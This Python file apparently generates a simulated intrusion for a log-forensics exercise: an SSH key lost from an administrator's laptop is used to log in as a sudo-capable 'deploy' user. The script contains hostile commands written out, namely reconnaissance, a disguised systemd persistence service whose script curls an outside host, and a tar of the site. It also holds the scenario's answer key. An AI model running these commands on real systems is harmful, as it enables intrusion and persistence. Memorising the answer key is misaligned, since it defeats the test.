"""A key that an administrator's laptop lost is used from elsewhere, without one failure before."""

from __future__ import annotations

import subprocess
from pathlib import Path

import server
import services
import site_code
import traffic
from client import ssh
from machine import Bases, Truth

INTRUDER = "2001:db8:77::9"
OWN = "2001:db8:10::10"


def make(out: Path, bases: Bases) -> None:
    """Apache, vhost_combined; the intruder comes over IPv6."""
    machine = server.web("quay", bases, out, apache=True)
    for address in (INTRUDER, OWN):
        machine.address(address)
    key = out / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    machine.user("deploy", groups="sudo")
    machine.write("/home/deploy/.ssh/authorized_keys", key.with_suffix(".pub").read_text(), 0o600)
    machine.run("chown", "-R", "deploy:deploy", "/home/deploy/.ssh")
    machine.write("/etc/sudoers.d/deploy", "deploy ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    root = "/var/www/quay"
    site_code.plain_site(machine, root, "deploy")
    log = "/var/log/apache2/other_vhosts_access.log"
    services.apache_site(machine, server.SITE, root, log, "vhost_combined")
    server.start(machine)
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    for day in range(0, machine.days, 2):
        machine.at(
            machine.on(day, 16, 5),
            lambda: ssh(out, server.STAFF, "deploy", key=key, command="ls /var/www", tty=True),
        )
    entered = machine.on(7, 4, 51, 33)
    work = (
        "sudo sh -c 'printf \"[Unit]\\nDescription=Harbour cache\\n[Service]\\n"
        "ExecStart=/usr/local/"
        'sbin/harbour-cache\\nConditionPathExists=/never\\n[Install]\\nWantedBy=multi-user.target\\n"'
        ' > /etc/systemd/system/harbour-cache.service; printf "#!/bin/sh\\n[ \\"$TZDIR\\" = never ]'
        ' && /usr/bin/curl -s http://203.0.113.9/x\\n" > /usr/local/sbin/harbour-cache; chmod +x'
        " /usr/local/sbin/harbour-cache'"
    )

    def come(command: str, *, tty: bool) -> None:
        ssh(out, INTRUDER, "deploy", key=key, command=command, server=OWN, tty=tty)

    machine.at(entered, lambda: come("id; sudo -l; cat /etc/passwd", tty=True))
    machine.at(machine.on(7, 4, 55, 2), lambda: come(work, tty=False))
    machine.at(machine.on(8, 5, 2), lambda: come("sudo tar cf - /var/www | wc -c", tty=False))
    machine.live()
    log = "/var/log/auth.log"
    machine.end(
        Truth(
            "ssh-key",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, "Accepted publickey for deploy", INTRUDER, "11-09T04:51"),
            accounts=["deploy", "root"],
            services=["sshd", "sudo", "systemd"],
            sites=["/var/www/quay"],
            untouched=["apache2", "postfix"],
            notes="a service harbour-cache; the site was read, not changed",
        )
    )
